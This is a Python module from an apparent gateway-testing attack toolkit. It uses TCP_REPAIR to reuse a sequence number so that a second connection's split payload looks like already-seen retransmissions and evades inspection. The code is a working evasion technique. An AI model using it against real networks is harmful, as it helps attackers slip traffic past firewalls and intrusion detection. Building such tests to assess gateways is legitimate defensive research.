"""One socket, two connections with the same initial number: the second seems to be sent again.

TCP_REPAIR sets the number. What the first connection sent is clean and longer than what a gateway
remembers of it; the second sends a value in two segments under numbers that have been seen.
"""

from __future__ import annotations

import socket
import struct
import time

from attacks.connection import PACE, drained, give_up, halves
from attacks.inner import libc
from attacks.target import Impossible, Target, refused

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
SEND = 2
FIRST = 1_000_000_000
CLEAN = b"nothing to see here, " * 200


def main(target: Target) -> None:
    """Connect, send, disconnect, twice."""
    made = socket.socket(target.af, socket.SOCK_STREAM)
    made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    made.settimeout(2)
    try:
        for parts in ((CLEAN,), halves(target)):
            set_number(made)
            with refused():
                made.connect((target.address, target.port))
                for part in parts:
                    made.sendall(part)
                    time.sleep(PACE)
            drained(made)
            unspecified = struct.pack("=H14x", socket.AF_UNSPEC)
            libc.connect(made.fileno(), unspecified, len(unspecified))
    finally:
        give_up(made)


def set_number(made: socket.socket) -> None:
    """What the next SYN begins with."""
    try:
        made.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    except PermissionError as error:
        raise Impossible("TCP_REPAIR needs CAP_NET_ADMIN") from error
    made.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, SEND)
    made.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, struct.pack("I", FIRST))
    made.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, -1)  # off, and no probe
